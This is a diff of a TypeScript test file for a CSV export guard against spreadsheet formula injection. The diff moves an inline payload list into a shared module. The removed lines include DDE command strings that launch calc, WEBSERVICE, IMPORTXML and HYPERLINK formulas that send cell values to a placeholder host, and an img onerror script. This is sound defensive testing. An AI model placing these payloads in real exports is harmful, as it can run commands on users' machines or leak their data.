@@ -1,109 +1,13 @@
 import Papa from 'papaparse';
 import { describe, expect, test } from 'vitest';
 import { figureCsv, guardFormula, writeCsv } from '../../src/charts/csv';
-
-/** Text a spreadsheet would calculate, or run. */
-const attacks = [
-  '=1+1',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("https://x.invalid/?"&A1,"click")',
-  '=IMPORTXML(CONCAT("https://x.invalid/",A1),"//a")',
-  '=WEBSERVICE("https://x.invalid/"&A1)',
-  '=DDE("cmd";"/C calc";"x")',
-  '=SUM(A1:A9)*2',
-  '="a"',
-  "='a'",
-  '==1',
-  '=',
-  '+1+1',
-  "+cmd|' /C calc'!A0",
-  '+A1',
-  '+SUM(A1)',
-  '++1',
-  '+',
-  '-1+1',
-  "-2+3+cmd|' /C calc'!A0",
-  '-A1',
-  '--1',
-  '-',
-  '-5 % or so',
-  '-5e9',
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '@A1',
-  '@handle',
-  '@',
-  '\t=1+1',
-  '\t1+1',
-  '\t',
-  '\r=1+1',
-  '\rtext',
-  '\n=1+1',
-  '\ntext',
-  '\r\n=1+1',
-  '|calc',
-  '|',
-  '%0A=1+1',
-  '%',
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(A1)',
-  ' =1+1',
-  '   =1+1',
-  ' +1+1',
-  ' -1+1',
-  ' @SUM(A1)',
-  ' \t=1+1',
-  ' \n=1+1',
-  ' ＝1+1',
-  '\ufeff=1+1',
-  '\ufeff+A1',
-  '\ufeff\ufeff=1+1',
-  '\u0000=1+1',
-  '\u0000\u0000@SUM(A1)',
-  ' \ufeff\u0000=1+1',
-  '\u00a0=1+1',
-  '\u3000＝1+1',
-  '\u200b=1+1',
-  '=1+1"',
-  '=1+1","=2+2',
-  '";=1+1',
-  '=1+1;=2+2',
-  '-1,2,x',
-  '+49 30 1234 ext 5',
-  '-1\t=1+1',
-  '-1\n=1+1',
-  '=<img src=x onerror=alert(1)>',
-].filter((attack) => !attack.startsWith('"'));
-
-/** Text that no spreadsheet calculates, and that must arrive as it is. */
-const harmless = [
-  '',
-  'Paid search',
-  '-5 %',
-  '-5%',
-  '+12',
-  '-1,234.50',
-  '-1 234,50',
-  '+49 30 1234567',
-  '−5 points',
-  '5=5',
-  'a@b.example',
-  'a|b',
-  '50 %',
-  "'quoted",
-  '"quoted"',
-  'line one\r\n=line two',
-  'comma, semicolon; tab\t',
-  '(not set)',
-  '#N/A',
-  '‑ hyphen',
-];
+import { formulas as attacks, harmless, isFormula, readCsv } from '../guard/formulas';
 
 /** What a second reader of CSV finds. */
 function reread(text: string): string[][] {
   const parsed = Papa.parse<string[]>(text, { skipEmptyLines: 'greedy' });
   expect(parsed.errors).toEqual([]);
+  expect(parsed.data).toEqual(readCsv(text).filter((row) => row.join('').trim() !== ''));
   return parsed.data;
 }
 
@@ -115,6 +19,7 @@ test.each(attacks)('%j arrives as text', (attack) => {
   const [header, row] = reread(writeCsv([attack, 'n'], [[attack, 7]]));
   expect(header).toEqual([`'${attack}`, 'n']);
   expect(row).toEqual([`'${attack}`, '7']);
+  expect([isFormula(attack), isFormula(row![0]!)]).toEqual([true, false]);
 });
 
 test.each(harmless)('%j arrives as it is', (words) => {
